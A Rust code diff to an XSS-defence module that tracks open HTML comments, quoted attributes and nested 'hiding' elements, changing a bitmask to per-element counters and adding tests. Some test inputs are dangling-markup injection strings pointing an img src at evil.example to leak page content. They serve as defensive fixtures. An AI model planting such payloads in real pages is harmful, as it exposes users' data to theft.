@@ -7,12 +7,12 @@ use crate::xss::{HIDING, RAW_TEXT};
 const NAME: usize = 16;
 
 #[derive(Debug, Default)]
-pub(super) struct Open {
+pub(crate) struct Open {
     state: State,
     name: Vec<u8>,
     closes: bool,
-    /// Which of [`HIDING`] have begun and not ended.
-    hiding: u32,
+    /// How often each of [`HIDING`] has begun and not ended.
+    hiding: [u32; HIDING.len()],
 }
 
 #[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
@@ -53,13 +53,13 @@ impl Open {
 
     /// As short a text as leaves the same open.
     pub fn what(&self) -> Option<Vec<u8>> {
-        let hiding = HIDING.iter().enumerate().find(|(place, _)| self.hiding & (1 << place) != 0);
+        let hiding = HIDING.iter().zip(self.hiding).find(|(_, begun)| *begun > 0);
         match (self.state, hiding) {
             (State::CommentBegins | State::CommentBeginsDashed | State::Comment { .. }, _) => {
                 Some(b"<!--".to_vec())
             }
             (State::Quoted(quote), _) => Some([b"<a x=".as_slice(), &[quote]].concat()),
-            (_, Some((_, name))) => Some([b"<", name.as_bytes(), b">"].concat()),
+            (_, Some((name, _))) => Some([b"<", name.as_bytes(), b">"].concat()),
             _ => None,
         }
     }
@@ -124,11 +124,12 @@ impl Open {
         let Some(element) = HIDING.iter().position(|known| known.as_bytes() == self.name) else {
             return State::Text;
         };
+        let Some(begun) = self.hiding.get_mut(element) else { return State::Text };
         if self.closes {
-            self.hiding &= !(1 << element);
+            *begun = begun.saturating_sub(1);
             return State::Text;
         }
-        self.hiding |= 1 << element;
+        *begun = begun.saturating_add(1);
         match RAW_TEXT.contains(&HIDING.get(element).copied().unwrap_or_default()) {
             true => State::Raw { element, ended: 0 },
             false => State::Text,
@@ -144,7 +145,10 @@ impl Open {
         };
         if awaited.is_none() && (byte.is_ascii_whitespace() || matches!(byte, b'/' | b'>')) {
             self.closes = true;
-            self.hiding &= !(1 << element);
+            self.name.clear();
+            if let Some(begun) = self.hiding.get_mut(element) {
+                *begun = begun.saturating_sub(1);
+            }
             return if byte == b'>' { State::Text } else { State::Attributes { named: false } };
         }
         let ended =
@@ -179,6 +183,9 @@ mod tests {
                 ("<textarea title='a'><!-- -->", "<textarea>"),
                 ("<select><option>a</option>", "<select>"),
                 ("<select><template></template>", "<select>"),
+                ("<template><template></template>", "<template>"),
+                ("<template><!--</template>-->", "<template>"),
+                ("<select><option title=\"</select>\">", "<select>"),
                 ("a <img src='//evil.example/?", "<a x='"),
                 ("a <img/src = \"//evil.example/?'>", "<a x=\""),
                 ("<select><img src='//evil.example/?</select>", "<a x='"),
